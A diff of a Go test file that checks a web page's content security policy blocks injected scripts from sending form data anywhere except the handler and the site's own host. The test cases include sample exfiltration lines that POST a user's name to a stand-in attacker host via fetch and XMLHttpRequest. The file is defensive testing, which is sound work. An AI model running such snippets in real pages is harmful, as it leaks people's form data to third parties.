@@ -59,7 +59,7 @@ func TestPolicyLetsAnswersThrough(t *testing.T) {
 	}
 }
 
-// Where a script sends the form, the policy lets scripts reach the handler and nobody else; what was put into the
+// Where a script sends the form, the policy lets scripts reach the handler, the site's own host, and nobody else; what was put into the
 // page later runs, resolves and sends nothing (CASES.md RS-037).
 func TestPolicyHoldsWhereAScriptSends(t *testing.T) {
 	public := petition{handler: formspreeHandler, form: usualFields + notice.lines()}.build(t, nil)
@@ -79,7 +79,7 @@ func TestPolicyHoldsWhereAScriptSends(t *testing.T) {
 	for _, send := range []string{
 		`fetch('https://evil.example/f', {method: 'POST', body: 'name=Ana'})`,
 		`new Promise((yes, no) => { const r = new XMLHttpRequest(); r.onload = yes; r.onerror = no; r.open('POST', 'https://evil.example/x'); r.send('name=Ana'); })`,
-		`fetch('https://action.riverton.example/elsewhere')`,
+		`fetch('https://copy.riverton.example/elsewhere')`,
 	} {
 		if got := ask[string](p, `(`+send+`).then(() => 'sent', () => 'stopped')`); got != "stopped" {
 			t.Errorf("%s: %s", send, got)
